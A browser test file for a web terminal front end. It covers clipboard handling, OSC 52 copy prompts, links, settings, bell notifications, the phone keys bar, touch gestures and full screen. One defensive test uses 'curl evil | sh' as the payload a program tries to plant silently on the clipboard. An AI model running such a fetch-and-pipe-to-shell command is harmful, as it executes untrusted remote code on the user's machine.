// The page people expect: clipboard, links, settings, keys that reach the shell, the
// bell in a hidden tab, the extra-keys bar on a phone. Real tern-relay (spawn mode), mosh-server,
// shell and headless Chromium; screenshots of every new state.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  launchBrowser, until, screen, waitForPrompt, typeLine, newSession, screenshotsOfState, sleep,
  setPageHidden, browserName, pageDetail,
} from '../lib/helpers.mjs';
import { browserFixture, onlyChromium } from '../lib/fixture.mjs';

// What only Chromium's driver can do here: clipboard permissions, touch emulation, routing a page
// the test opens, the Keyboard Lock API, the beforeunload prompt (Firefox's tests turn it off).
const chromiumOnly = onlyChromium();

const fx = browserFixture({ open: true, grant: ['clipboard-read', 'clipboard-write'] });

const clipboardText = (p) => p.evaluate(() => navigator.clipboard.readText());

/// The page position of the middle of cell (col, row) of xterm.js's screen (0-based).
async function cellCenter(p, col, row) {
  return p.evaluate(([c, r]) => {
    const { term } = window.tern;
    const box = term.element.querySelector('.xterm-screen').getBoundingClientRect();
    return { x: box.left + (c + 0.5) * (box.width / term.cols), y: box.top + (r + 0.5) * (box.height / term.rows) };
  }, [col, row]);
}

/// The screen row (0-based, in xterm.js's viewport) whose text matches `re`, once xterm.js shows
/// it (the core has a state a moment before xterm.js has parsed and drawn it).
async function rowOf(p, re) {
  let rows = [];
  const row = await until(async () => {
    rows = await p.evaluate(() => {
      const { term } = window.tern;
      const buf = term.buffer.active;
      // translateToString(true) trims only cells never written; a renderer may blank the end of a
      // row with spaces (what mosh's display diff does for a short run), which look the same.
      return Array.from({ length: term.rows }, (_, y) => (buf.getLine(buf.viewportY + y)?.translateToString(true) ?? '').trimEnd());
    });
    const i = rows.findIndex((r) => re.test(r));
    return i >= 0 ? i + 1 : 0;
  }, { what: `a row matching ${re}` }).catch(() => {
    throw new Error(`no row matches ${re}:\n${rows.join('\n')}`);
  });
  return row - 1;
}

/// Runs `od -c` on the next `n` bytes the terminal sends (raw mode), after `press()` typed them.
async function bytesOfKeys(p, n, press) {
  await typeLine(p, `clear; stty raw -echo; od -An -c -N ${n}; stty sane; echo od-done`);
  await sleep(500);
  await press();
  await until(async () => /od-done/.test(await screen(p)), { what: 'od to read the key' });
  return (await screen(p)).split('\n').find((l) => /^\s+\S/.test(l) && !/od -An/.test(l))?.trim() ?? '';
}

test('a mouse selection is on the clipboard; Ctrl+Shift+V types the clipboard', chromiumOnly, async () => {
  const { page } = fx;
  await typeLine(page, 'clear; echo select-me-$((6*7))');
  await until(async () => /^select-me-42$/m.test(await screen(page)), { what: 'the text to select' });
  const row = await rowOf(page, /^select-me-42$/);
  const from = await cellCenter(page, 0, row);
  const to = await cellCenter(page, 11, row);
  await page.mouse.move(from.x - 3, from.y);
  await page.mouse.down();
  await page.mouse.move(to.x + 3, to.y, { steps: 5 });
  await page.mouse.up();
  await until(async () => (await clipboardText(page)) === 'select-me-42', { what: 'copy on select' })
    .catch(async (e) => { throw new Error(`${e.message}; clipboard: ${JSON.stringify(await clipboardText(page))}`); });
  await screenshotsOfState(page, 'page-selection');

  await page.evaluate(() => navigator.clipboard.writeText('echo pasted-by-keys-$((40+2))'));
  await typeLine(page, 'clear');
  await page.keyboard.press('Control+Shift+V');
  await page.keyboard.press('Enter');
  await until(async () => /^pasted-by-keys-42$/m.test(await screen(page)), { what: 'Ctrl+Shift+V to paste' });
});

/// A program in the shell writes the clipboard (OSC 52) with `text`, then prints a marker; resolves
/// once the marker is on the screen (the OSC 52 came before it in the same output).
async function programCopies(p, text) {
  await typeLine(p, `clear; printf '\\e]52;c;%s\\a' "$(printf '${text}' | base64)"; echo osc52-$((40+2))`);
  await until(async () => /^osc52-42$/m.test(await screen(p)), { what: 'the program to print OSC 52' });
  // The page's clipboard write (old code) is asynchronous: give it time to land.
  await sleep(700);
}

const offerShown = (p) => p.evaluate(() => !document.getElementById('copy-offer').hidden);

// Finding 7 of issue 32: `cat` of a file could plant `curl evil | sh` on the clipboard while the
// tab has focus. With the default setting ("ask") the clipboard stays as it was until the person
// clicks Copy on a notice that shows the text; "off" never writes and says a program tried; "on"
// writes and says so every time. (On the old code the first assertion fails: it wrote silently.)
test('a program cannot replace the clipboard silently: ask (the default), off, on', chromiumOnly, async () => {
  const { page } = fx;
  await page.evaluate(() => navigator.clipboard.writeText('the person copied this'));
  await programCopies(page, 'curl evil | sh');
  assert.equal(await clipboardText(page), 'the person copied this', 'the program replaced the clipboard without asking');
  assert.equal(await page.evaluate(() => window.tern.settings.get().remoteCopy), 'ask', 'ask is the default');
  await until(() => offerShown(page), { what: 'the notice asking to copy' });
  assert.equal(await page.textContent('#copy-offer-text'), 'The program wants to copy 14 characters:');
  assert.equal(await page.textContent('#copy-offer-preview'), 'curl evil | sh');
  assert.equal(await page.isVisible('#copy-offer-preview'), true);
  assert.equal(await page.textContent('#copy-offer-button'), 'Copy');
  assert.equal(await page.textContent('#copy-offer-close'), 'Dismiss');
  await screenshotsOfState(page, 'page-osc52-ask');
  await page.click('#copy-offer-button');
  await until(async () => (await clipboardText(page)) === 'curl evil | sh', { what: 'Copy to write the clipboard' });
  assert.equal(await offerShown(page), false);

  // Dismiss: nothing written.
  await page.evaluate(() => navigator.clipboard.writeText('kept'));
  await programCopies(page, 'dismissed');
  await until(() => offerShown(page), { what: 'the notice asking again' });
  await page.click('#copy-offer-close');
  await sleep(300);
  assert.equal(await clipboardText(page), 'kept');

  // Off: never written; the notice says a program tried, and how long its text was, nothing more.
  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'off' }));
  await programCopies(page, 'secret-ish text');
  assert.equal(await clipboardText(page), 'kept', 'written with the setting off');
  await until(() => offerShown(page), { what: 'the notice that a program tried' });
  assert.equal(await page.textContent('#copy-offer-text'),
    'A program tried to copy 15 characters to the clipboard; the settings do not allow it.');
  assert.equal(await page.isVisible('#copy-offer-button'), false);
  assert.doesNotMatch(await page.evaluate(() => document.getElementById('copy-offer').textContent), /secret-ish/);
  await screenshotsOfState(page, 'page-osc52-off');
  await page.click('#copy-offer-close');

  // On: written, and a notice says so.
  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'on' }));
  await programCopies(page, 'allowed');
  await until(async () => (await clipboardText(page)) === 'allowed', { what: 'OSC 52 to write with the setting on' });
  await until(() => offerShown(page), { what: 'the notice that a program copied' });
  assert.equal(await page.textContent('#copy-offer-text'), 'A program copied 7 characters to the clipboard.');
  await screenshotsOfState(page, 'page-osc52-on');
  await page.click('#copy-offer-close');

  // The setting in the panel, kept across a reload like the others.
  await page.click('#gear');
  await until(() => page.evaluate(() => window.tern.settings.isOpen()), { what: 'the settings panel' });
  assert.equal(await page.evaluate(() => document.querySelector('#settings-form [name=remoteCopy]').value), 'on');
  await page.evaluate(() => {
    const el = document.querySelector('#settings-form [name=remoteCopy]');
    el.value = 'ask';
    el.dispatchEvent(new Event('change', { bubbles: true }));
  });
  await screenshotsOfState(page, 'page-settings-clipboard');
  assert.equal(await page.evaluate(() => JSON.parse(localStorage.getItem('tern.settings')).remoteCopy), 'ask');
  await page.keyboard.press('Escape');
});

test('OSC 52 the browser refuses offers a Copy button', chromiumOnly, async () => {
  const { page } = fx;
  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'on' }));
  // A browser refuses a clipboard write from a page without focus (Chromium: NotAllowedError,
  // "Document is not focused"). Headless pages always have focus, so the refusal is the
  // browser's answer played by the page's own clipboard object, once.
  await page.evaluate(() => {
    const real = navigator.clipboard.writeText.bind(navigator.clipboard);
    navigator.clipboard.writeText = (text) => {
      navigator.clipboard.writeText = real;
      return Promise.reject(new DOMException('Document is not focused.', 'NotAllowedError'));
    };
  });
  await typeLine(page, 'clear; printf \'\\e]52;c;%s\\a\' "$(printf offered | base64)"');
  await until(() => page.evaluate(() => !document.getElementById('copy-offer').hidden), { what: 'the Copy button' });
  assert.match(await page.textContent('#copy-offer-text'), /copied 7 characters/);
  await screenshotsOfState(page, 'page-copy-offer');
  await page.click('#copy-offer-button');
  await until(async () => (await clipboardText(page)) === 'offered', { what: 'the Copy button to copy' });
  assert.equal(await page.evaluate(() => document.getElementById('copy-offer').hidden), true);
  await page.evaluate(() => window.tern.settings.set({ remoteCopy: 'ask' }));
});

test('a printed URL is a link that opens a new page', chromiumOnly, async () => {
  const { page } = fx;
  await typeLine(page, 'clear; echo https://example.invalid/x');
  await until(async () => /^https:\/\/example\.invalid\/x$/m.test(await screen(page)), { what: 'the URL' });
  const row = await rowOf(page, /^https:\/\/example\.invalid\/x$/);
  const at = await cellCenter(page, 10, row);
  await page.mouse.move(at.x, at.y);
  await sleep(200);
  // The address does not resolve: the test answers it.
  await fx.browser.context.route('https://example.invalid/**', (r) => r.fulfill({ contentType: 'text/html', body: '<title>x</title>opened' }));
  const opened = fx.browser.context.waitForEvent('page', { timeout: 10000 });
  await page.mouse.click(at.x, at.y);
  const other = await opened;
  await until(() => other.url() !== 'about:blank', { what: 'the new page to navigate' });
  assert.match(other.url(), /^https:\/\/example\.invalid\/x/);
  // noopener: the new page cannot reach this one.
  assert.equal(await other.evaluate(() => window.opener).catch(() => null), null);
  await other.close();
});

test('Shift+Enter sends ESC CR and Alt+b sends ESC b', async () => {
  const { page } = fx;
  assert.equal(await bytesOfKeys(page, 2, () => page.keyboard.press('Shift+Enter')), '033  \\r');
  assert.equal(await bytesOfKeys(page, 2, () => page.keyboard.press('Alt+b')), '033   b');
});

test('the font size from the settings changes the columns the shell sees and survives a reload', async () => {
  const { page } = fx;
  await typeLine(page, 'clear; tput cols');
  await until(async () => /^\d+$/m.test(await screen(page)), { what: 'tput cols' });
  const before = Number((await screen(page)).match(/^(\d+)$/m)[1]);
  await page.click('#gear');
  await until(() => page.evaluate(() => window.tern.settings.isOpen()), { what: 'the settings panel' });
  await screenshotsOfState(page, 'page-settings');
  // At the bottom of the panel: which relay serves the page, its version and commit (/api/info).
  const build = await page.evaluate(() => document.getElementById('settings-relay').textContent);
  assert.match(build, /^tern-relay \d+\.\d+\.\d+\S* \(([0-9a-f]{12}|unknown)\)$/, build);
  // As a person changes a field: its value, then a change event.
  await page.evaluate(() => {
    const set = (name, value) => {
      const el = document.querySelector(`#settings-form [name=${name}]`);
      el.value = value;
      el.dispatchEvent(new Event('change', { bubbles: true }));
    };
    set('fontSize', '22');
    set('theme', 'light');
  });
  await page.keyboard.press('Escape');
  await until(() => page.evaluate(() => !window.tern.settings.isOpen()), { what: 'Escape to close the panel' });
  await until(() => page.evaluate(() => window.tern.term.options.fontSize === 22), { what: 'the font size' });
  await until(() => page.evaluate((b) => window.tern.term.cols < b, before), { what: 'fewer columns with the bigger font' });
  // The columns once the refits have settled (a refit from an earlier viewport change may still be
  // on its way when the font changes).
  await sleep(500);
  const wanted = await page.evaluate(() => window.tern.term.cols);
  await typeLine(page, 'clear; tput cols');
  await until(async () => new RegExp(`^${wanted}$`, 'm').test(await screen(page)), { what: `tput cols = ${wanted}`, detail: pageDetail(page) });
  // The chosen light theme, whatever the system says.
  // Firefox's driver cannot emulate the system's scheme (no CDP): there the chosen theme alone.
  const emulate = (colorScheme) => page.emulateMedia({ colorScheme }).catch((e) => console.log(`# ${e.message}`));
  await emulate('dark');
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'light');
  await page.screenshot({ path: 'test-artifacts/page-light-theme-chosen.png' });

  await page.reload();
  await waitForPrompt(page);
  assert.equal(await page.evaluate(() => window.tern.term.options.fontSize), 22, 'the font size did not survive a reload');
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'light');
  // The reloaded page may fit twice (before and after the web font's metrics): the command is
  // typed once the terminal has the size the font gives, so `tput cols` sees the final one.
  await until(() => page.evaluate((w) => window.tern.term.cols === w, wanted), { what: `xterm.js at ${wanted} columns after the reload`, detail: pageDetail(page) });
  await typeLine(page, 'clear; tput cols');
  await until(async () => new RegExp(`^${wanted}$`, 'm').test(await screen(page)), { what: `tput cols = ${wanted} after the reload`, detail: pageDetail(page) });
  // Ctrl+- changes the terminal's font, not the page's zoom.
  await page.keyboard.press('Control+Minus');
  await until(() => page.evaluate(() => window.tern.term.options.fontSize === 21), { what: 'Ctrl+- to shrink the font' });
  assert.equal(await page.evaluate(() => window.visualViewport.scale), 1);
  await page.evaluate(() => window.tern.settings.set({ fontSize: 15, theme: 'system' }));
  await emulate(null);
});

test('a bell in a hidden tab marks its title until the tab is seen', async () => {
  const { page } = fx;
  await typeLine(page, "clear; printf '\\e]0;build\\a'; sleep 1; printf '\\a'; echo rang-$((6*7))");
  await setPageHidden(page, true);
  await until(async () => /^rang-42$/m.test(await screen(page)), { what: 'the bell' });
  await until(async () => (await page.title()) === '🔔 build — tern', { what: 'the title marked' })
    .catch(async (e) => { throw new Error(`${e.message}; title: ${await page.title()}`); });
  await setPageHidden(page, false);
  assert.equal(await page.title(), 'build — tern');
});

test('a bell in a hidden tab raises a notification when the settings allow it, and only then', async () => {
  const { page } = fx;
  // Headless browsers show no notification anyone could observe: the page's Notification is
  // wrapped so the test sees each one constructed (title, options) and closed. Chromium's
  // permission is the browser's own, granted here; Firefox's driver cannot grant it, so there the
  // wrapper answers "granted" in the browser's place.
  if (browserName() === 'chromium') {
    await fx.browser.context.grantPermissions(['notifications'], { origin: fx.origin });
  }
  await page.evaluate((fakeGrant) => {
    const Real = window.Notification;
    window.notes = [];
    window.Notification = class {
      static get permission() { return fakeGrant ? 'granted' : Real.permission; }
      static requestPermission() { return fakeGrant ? Promise.resolve('granted') : Real.requestPermission(); }
      constructor(title, options = {}) {
        this.record = { title, body: options.body, tag: options.tag, closed: false };
        window.notes.push(this.record);
      }
      close() { this.record.closed = true; }
    };
  }, browserName() !== 'chromium');
  const notes = () => page.evaluate(() => window.notes);
  const setNotify = (on) => page.evaluate((v) => {
    const box = document.querySelector('#settings-form [name=notifications]');
    box.checked = v;
    box.dispatchEvent(new Event('change', { bubbles: true }));
  }, on);
  let n = 0;
  // Rings while hidden (the page hides itself once the command is typed); visible again after.
  const ringHidden = async () => {
    n += 1;
    await typeLine(page, `clear; printf '\\e]0;job\\a'; sleep 1; printf '\\a'; echo rang-${n}`);
    await setPageHidden(page, true);
    await until(async () => new RegExp(`^rang-${n}$`, 'm').test(await screen(page)), { what: `bell ${n}` });
    await until(async () => (await page.title()) === '🔔 job — tern', { what: 'the title marked' });
    await sleep(300);
  };

  // Off (the default): the title is marked, nothing more.
  assert.equal(await page.evaluate(() => window.tern.settings.get().notifications), false);
  await ringHidden();
  assert.deepEqual(await notes(), [], 'a notification with the setting off');
  await setPageHidden(page, false);

  // On, as a person turns it on in the panel (the browser's permission is asked there).
  await setNotify(true);
  await until(() => page.evaluate(() => window.tern.settings.get().notifications), { what: 'the setting on' });
  await ringHidden();
  const [note] = await notes();
  assert.equal((await notes()).length, 1, `notifications: ${JSON.stringify(await notes())}`);
  assert.equal(note.title, 'job — tern');
  assert.match(note.body, /bell/);
  assert.equal(note.closed, false);
  // Seen again: the notification goes, with the title's mark.
  await setPageHidden(page, false);
  assert.equal((await notes())[0].closed, true, 'the notification stayed after the tab was seen');
  assert.equal(await page.title(), 'job — tern');

  // A bell in the visible tab: a flash, no notification.
  await typeLine(page, "clear; printf '\\a'; echo rang-visible");
  await until(async () => /^rang-visible$/m.test(await screen(page)), { what: 'the visible bell' });
  await sleep(300);
  assert.equal((await notes()).length, 1, 'a notification for a bell in a visible tab');

  await setNotify(false);
  await until(() => page.evaluate(() => !window.tern.settings.get().notifications), { what: 'the setting off' });
  await ringHidden();
  assert.equal((await notes()).length, 1, 'a notification after the setting was turned off');
  await setPageHidden(page, false);
});

test('a phone gets the extra-keys bar; sticky Ctrl then c interrupts sleep', chromiumOnly, async () => {
  const { page } = fx;
  const phone = await launchBrowser({ viewport: { width: 390, height: 760 }, mobile: true });
  try {
    await phone.page.goto(newSession(fx.url));
    await waitForPrompt(phone.page);
    assert.equal(await phone.page.evaluate(() => !document.getElementById('extra-keys').hidden), true, 'no extra-keys bar');
    await typeLine(phone.page, 'clear; sleep 100');
    await sleep(500);
    await phone.page.tap('#extra-keys [data-sticky=ctrl]');
    assert.equal(await phone.page.getAttribute('#extra-keys [data-sticky=ctrl]', 'aria-pressed'), 'true');
    await screenshotsOfState(phone.page, 'page-extra-keys');
    await phone.page.keyboard.press('c');
    // bash drops the rest of a command line a Ctrl+C interrupts: the status comes in its own.
    await until(async () => /\^C\n[^\n]*[$#] ?$/.test((await screen(phone.page)).trimEnd()), { what: 'the prompt after ^C' });
    await typeLine(phone.page, 'echo status-$?');
    await until(async () => /^status-130$/m.test(await screen(phone.page)), { what: 'Ctrl+C from the bar to interrupt sleep' })
      .catch(async (e) => { throw new Error(`${e.message}; screen:\n${await screen(phone.page)}\n${phone.consoleLog.join('\n')}`); });
    assert.equal(await phone.page.getAttribute('#extra-keys [data-sticky=ctrl]', 'aria-pressed'), 'false', 'Ctrl stayed down');
    // The terminal ends above the bar.
    const [termBottom, barTop] = await phone.page.evaluate(() => [
      document.getElementById('terminal').getBoundingClientRect().bottom,
      document.getElementById('extra-keys').getBoundingClientRect().top,
    ]);
    assert.ok(termBottom <= barTop + 1, `the terminal (bottom ${termBottom}) runs under the bar (top ${barTop})`);
  } finally {
    await phone.close();
  }
});

/// A finger on `p` through Chromium's input pipeline (CDP `Input.dispatchTouchEvent`: the
/// browser's own touch events and gestures, long press and tap included): down at `from`, `hold`
/// ms still, moved to `to` in `steps`, lifted.
async function finger(p, from, { to = from, steps = 12, hold = 0 } = {}) {
  const cdp = await p.context().newCDPSession(p);
  const point = ({ x, y }) => [{ x: Math.round(x), y: Math.round(y), id: 1 }];
  try {
    await cdp.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: point(from) });
    if (hold) await sleep(hold);
    for (let i = 1; i <= steps && (to.x !== from.x || to.y !== from.y); i++) {
      const at = { x: from.x + ((to.x - from.x) * i) / steps, y: from.y + ((to.y - from.y) * i) / steps };
      await cdp.send('Input.dispatchTouchEvent', { type: 'touchMove', touchPoints: point(at) });
      await sleep(16);
    }
    await cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] });
  } finally {
    await cdp.detach();
  }
}

/// A phone (touch, 390x760) on a new session of the file's relay, at its prompt.
async function phoneSession() {
  const phone = await launchBrowser({ viewport: { width: 390, height: 760 }, mobile: true });
  await phone.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: fx.origin });
  try {
    await phone.page.goto(newSession(fx.url));
    await waitForPrompt(phone.page);
  } catch (e) {
    await phone.close();
    throw new Error(`${e.message}\n${phone.consoleLog.join('\n')}`);
  }
  return phone;
}

/// xterm.js's viewport: its first line's index and the rows it shows.
const viewport = (p) => p.evaluate(() => {
  const { term } = window.tern;
  const buf = term.buffer.active;
  const rows = Array.from({ length: term.rows }, (_, y) => buf.getLine(buf.viewportY + y)?.translateToString(true) ?? '');
  return { y: buf.viewportY, base: buf.baseY, rows };
});
const numbersIn = (rows) => rows.filter((r) => /^\d+$/.test(r)).map(Number);

test('a finger dragged down the terminal scrolls back through what scrolled off; up again returns', chromiumOnly, async () => {
  const { page } = fx;
  const phone = await phoneSession();
  const p = phone.page;
  try {
    // Paced: mosh sends screens, not bytes, and what scrolls by between two frames never reaches
    // the page's scrollback (docs/BROWSER.md, "Scrollback and search").
    await typeLine(p, 'clear; seq 1 200 | while read i; do echo $i; sleep 0.01; done');
    await until(async () => numbersIn((await viewport(p)).rows).includes(200), { what: 'seq to end at 200', timeout: 30000, detail: pageDetail(p) });
    const before = await viewport(p);
    assert.ok(before.y > 0 && before.y === before.base, `xterm.js not at the bottom of a scrollback: ${JSON.stringify(before)}`);
    const top = await cellCenter(p, 10, 4);
    const bottom = await cellCenter(p, 10, 22);
    await finger(p, top, { to: bottom });
    const after = await until(async () => {
      const v = await viewport(p);
      return v.y < before.y && v;
    }, { what: 'the drag to scroll xterm.js back', detail: pageDetail(p) });
    // The text followed the finger: about one line per cell height moved (18 rows here).
    const moved = before.y - after.y;
    assert.ok(moved >= 14 && moved <= 19, `scrolled ${moved} lines for a drag over 18 rows`);
    assert.ok(Math.min(...numbersIn(after.rows)) < Math.min(...numbersIn(before.rows)), `no earlier numbers:\n${after.rows.join('\n')}`);
    assert.equal(await p.evaluate(() => window.scrollY), 0, 'the page itself scrolled');
    assert.equal(await p.evaluate(() => window.tern.history.isOpen()), false, 'the history view opened');
    await screenshotsOfState(p, 'page-touch-scrolled');
    // Back up: the end again.
    await finger(p, bottom, { to: top });
    await until(async () => (await viewport(p)).y === before.y, { what: 'the drag up to return to the end', detail: pageDetail(p) });
    // A program that asked for mouse reports gets the drag as the wheel: reports, not scrolling.
    // (The first report is read; the rest of the drag's are drained before mouse mode goes off.)
    await typeLine(p, "clear; stty -echo; printf '\\e[?1000h\\e[?1006h'; IFS= read -rd M x; sleep 1; " +
      "printf '\\e[?1000l\\e[?1006l'; read -rt 0.3 -d '' rest; stty echo; printf 'got:%q\\n' \"$x\"");
    await sleep(700);
    const wheelFrom = await cellCenter(p, 10, 5);
    await finger(p, wheelFrom, { to: await cellCenter(p, 10, 9) });
    const still = await viewport(p);
    assert.equal(still.y, still.base, 'xterm.js scrolled in mouse mode');
    await until(async () => /^got:\$'\\(E|e|033)\[<64;\d+;\d+'$/m.test(await screen(p)), { what: 'a wheel-up report', detail: pageDetail(p) });
  } finally {
    await phone.close();
  }
});

test('a long press on a phone offers Paste, which pastes the clipboard (bracketed); a tap stays a tap', chromiumOnly, async () => {
  const { page } = fx;
  const phone = await phoneSession();
  const p = phone.page;
  const offerShown = () => p.evaluate(() => !document.getElementById('paste-offer').hidden);
  try {
    await p.evaluate(() => navigator.clipboard.writeText('from-touch'));
    // A normal tap: no offer, and the terminal has the focus (the on-screen keyboard's).
    await p.evaluate(() => document.activeElement.blur());
    const at = await cellCenter(p, 12, 8);
    await finger(p, at);
    await until(() => p.evaluate(() => document.activeElement?.classList.contains('xterm-helper-textarea')), { what: 'the tap to focus the terminal' });
    await sleep(700);
    assert.equal(await offerShown(), false, 'a tap offered Paste');

    // Long press: the offer at the press point; tapping elsewhere or Escape dismisses it.
    await finger(p, at, { hold: 800 });
    await until(offerShown, { what: 'the Paste offer' });
    const box = await p.evaluate(() => document.getElementById('paste-offer').getBoundingClientRect().toJSON());
    assert.ok(Math.abs(box.x + box.width / 2 - at.x) < 40 && box.bottom <= at.y, `the offer (${JSON.stringify(box)}) is not above the press at ${JSON.stringify(at)}`);
    await finger(p, await cellCenter(p, 5, 20));
    await until(async () => !(await offerShown()), { what: 'a tap elsewhere to dismiss the offer' });
    await finger(p, at, { hold: 800 });
    await until(offerShown, { what: 'the Paste offer again' });
    await p.keyboard.press('Escape');
    await until(async () => !(await offerShown()), { what: 'Escape to dismiss the offer' });
    assert.doesNotMatch(await screen(p), /from-touch/, 'dismissing pasted');

    // Paste: the program sees the clipboard, bracketed because it asked for bracketed paste.
    await typeLine(p, "clear; printf '\\e[?2004h'; stty raw -echo; od -An -c -N 22; stty sane; printf '\\e[?2004l'; echo od-done");
    await sleep(700);
    await finger(p, at, { hold: 800 });
    await until(offerShown, { what: 'the Paste offer for the paste' });
    await screenshotsOfState(p, 'page-touch-paste-offer');
    const button = await p.evaluate(() => {
      const r = document.querySelector('#paste-offer button').getBoundingClientRect();
      return { x: r.x + r.width / 2, y: r.y + r.height / 2 };
    });
    await finger(p, button);
    await until(async () => /od-done/.test(await screen(p)), { what: 'od to read the paste', detail: pageDetail(p) });
    const bytes = (await screen(p)).split('\n').filter((l) => /^\s+\S/.test(l) && !/od -An|od-done/.test(l)).join(' ').trim().split(/\s+/);
    assert.deepEqual(bytes, ['033', '[', '2', '0', '0', '~', 'f', 'r', 'o', 'm', '-', 't', 'o', 'u', 'c', 'h', '033', '[', '2', '0', '1', '~']);
    assert.equal(await offerShown(), false, 'the offer stayed after pasting');
  } finally {
    await phone.close();
  }
});

test('the page is an installable app: a manifest with icons', async () => {
  const { page } = fx;
  // Linked once the session has started (out of the first load's way); the tab's icon at once.
  await until(() => page.evaluate(() => document.querySelector('link[rel=manifest]') !== null), { what: 'the manifest link' });
  const favicon = await page.evaluate(async () => {
    const link = document.querySelector('link[rel=icon]');
    return link && { type: link.type, ok: (await fetch(link.href)).ok };
  });
  assert.deepEqual(favicon, { type: 'image/svg+xml', ok: true }, 'the tab has no icon');
  const manifest = await page.evaluate(async () => {
    const href = document.querySelector('link[rel=manifest]').href;
    const r = await fetch(href);
    return { type: r.headers.get('content-type'), body: await r.json() };
  });
  assert.equal(manifest.type, 'application/manifest+json');
  assert.equal(manifest.body.display, 'standalone');
  for (const icon of manifest.body.icons) {
    const ok = await page.evaluate(async (src) => (await fetch(src)).ok, icon.src);
    assert.ok(ok, `icon ${icon.src} missing`);
  }
});

test('full screen takes the keyboard (Keyboard Lock) and leaves again', chromiumOnly, async () => {
  const { page } = fx;
  await page.click('#fullscreen');
  await until(() => page.evaluate(() => document.fullscreenElement !== null), { what: 'full screen' });
  // The button follows `fullscreenchange`, which comes a moment after the element is set.
  await until(async () => (await page.getAttribute('#fullscreen', 'aria-pressed')) === 'true', { what: 'the button pressed' });
  assert.equal(await page.evaluate(() => typeof navigator.keyboard?.lock), 'function', 'no Keyboard Lock API');
  await screenshotsOfState(page, 'page-fullscreen');
  await page.click('#fullscreen');
  await until(() => page.evaluate(() => document.fullscreenElement === null), { what: 'leaving full screen' });
  await until(async () => (await page.getAttribute('#fullscreen', 'aria-pressed')) === 'false', { what: 'the button released' });
});

test('a live session asks before its tab closes, unless turned off in the settings', chromiumOnly, async () => {
  let { page } = fx;
  const guarded = () => page.evaluate(() => {
    const e = new Event('beforeunload', { cancelable: true });
    window.dispatchEvent(e);
    return e.defaultPrevented;
  });
  assert.equal(await guarded(), true, 'no beforeunload guard while live');
  // The browser's real question, on a real close.
  const asked = new Promise((resolve) => page.once('dialog', (d) => resolve(d.type())));
  const other = await fx.browser.context.newPage();
  await page.bringToFront();
  await page.close({ runBeforeUnload: true }).catch(() => {});
  assert.equal(await Promise.race([asked, sleep(5000).then(() => 'no question')]), 'beforeunload');
  // The harness answered "leave": the page is gone; the session lives on for the next page.
  fx.page = page = other;
  await page.goto(newSession(fx.url));
  await waitForPrompt(page);
  await page.evaluate(() => window.tern.settings.set({ confirmClose: false }));
  assert.equal(await guarded(), false, 'the guard stayed on after turning it off');
  await page.evaluate(() => window.tern.settings.set({ confirmClose: true }));
});
